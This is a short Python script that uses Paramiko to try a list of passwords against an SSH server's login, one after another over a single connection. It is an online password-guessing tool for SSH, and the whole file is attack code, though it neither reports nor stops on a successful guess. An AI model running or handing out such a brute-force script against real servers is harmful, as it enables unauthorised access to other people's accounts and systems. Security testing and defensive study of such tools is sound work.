# SPDX-License-Identifier: LGPL-2.1-or-later
"""`guess.py SERVER USER WORD...` tries each password over one SSH connection, with Paramiko, as many tools do."""

import sys

import paramiko  # type: ignore[import-untyped]

server, user, *guesses = sys.argv[1:]
transport = paramiko.Transport((server, 22))
transport.start_client(timeout=20)
for guess in guesses:
    try:
        transport.auth_password(user, guess)
    except paramiko.AuthenticationException:
        continue
transport.close()
